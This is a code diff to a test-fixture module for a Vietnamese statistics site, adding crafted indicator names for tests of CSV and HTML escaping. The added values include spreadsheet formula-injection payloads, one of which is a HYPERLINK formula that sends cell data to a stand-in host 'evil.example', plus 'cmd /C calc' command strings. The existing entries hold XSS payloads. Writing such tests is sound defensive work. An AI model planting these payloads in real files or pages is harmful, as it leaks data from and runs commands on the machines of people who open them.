@@ -240,6 +240,15 @@ EXTRA_INDICATORS: tuple[tuple[str, str, Profile], ...] = (
     ("Kim ngạch xuất khẩu hàng hóa của doanh nghiệp trên địa bàn", "Triệu USD", TRADE),
 )
 
+# Names a spreadsheet would run as formulas, for the downloads' quoting tests (no ``|``: it
+# would split the Markdown cell).
+FORMULA_NAMES: tuple[str, ...] = (
+    '=HYPERLINK("http://evil.example/?d="&A1,"Xem chi tiết")',
+    "@SUM(1+1)+cmd /C calc",
+    "+cmd /C calc",
+    "-2+3+cmd /C calc",
+)
+
 # Crafted names for the site's escaping tests: (as printed in the report, as the package must hold
 # it). Tags are stripped by extraction; a tag left open, quotes and entities are kept as text.
 CRAFTED_NAMES: tuple[tuple[str, str], ...] = (
@@ -249,4 +258,5 @@ CRAFTED_NAMES: tuple[tuple[str, str], ...] = (
         'Chỉ tiêu thử "><img src=x onerror=alert(1)//',
     ),
     ("Chỉ tiêu ' onmouseover='alert(2) &lt;b&gt;", "Chỉ tiêu ' onmouseover='alert(2) &lt;b&gt;"),
+    *((name, name) for name in FORMULA_NAMES),
 )
